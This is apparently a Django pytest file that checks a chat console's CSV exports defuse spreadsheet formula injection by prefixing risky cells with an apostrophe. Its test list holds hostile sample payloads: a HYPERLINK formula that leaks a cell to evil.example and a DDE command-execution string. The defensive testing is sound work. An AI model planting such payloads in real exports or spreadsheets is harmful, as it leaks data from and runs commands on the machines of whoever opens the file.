"""Conversation exports cannot carry a formula into a spreadsheet (issue 27, finding 3):
every cell that starts with =, +, -, @, a tab or a carriage return is prefixed with an
apostrophe (OWASP), in the one-conversation and the bulk CSV export; JSON keeps the text."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tandem.chat.models import Message
from tests.console.conftest import conversation

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click for help")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_visitors_formula_is_exported_as_text_in_both_csv_exports_and_unchanged_in_json(client, world):
    conv = conversation(world.a.tenant, "Hello")
    for text in ATTACKS:
        Message.objects.create(conversation=conv, role=Message.Role.USER, content=text)
    Message.objects.create(conversation=conv, role=Message.Role.USER, content="a = b, plain")
    client.force_login(world.viewer_a)
    for url in ("/console/t/alpha/conversations/export.csv",
                f"/console/t/alpha/conversations/{conv.pk}/export.csv"):
        rows = [r for r in _cells(client.get(url)) if r["conversation_id"] == str(conv.pk)]
        contents = [r["content"] for r in rows]
        for text in ATTACKS:
            assert "'" + text in contents, (url, text)
        assert "a = b, plain" in contents and "Hello" in contents
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
    exported = json.loads(b"".join(client.get(f"/console/t/alpha/conversations/{conv.pk}/export.json")
                                   .streaming_content))
    assert ATTACKS[0] in [r["content"] for r in exported]
